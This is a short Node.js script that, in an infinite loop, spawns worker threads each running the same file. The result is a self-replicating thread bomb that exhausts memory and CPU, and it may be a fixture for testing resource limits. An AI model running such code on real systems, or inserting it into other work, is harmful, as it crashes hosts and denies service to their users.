const { Worker } = require("node:worker_threads");

for (;;) {
  new Worker(__filename);
}
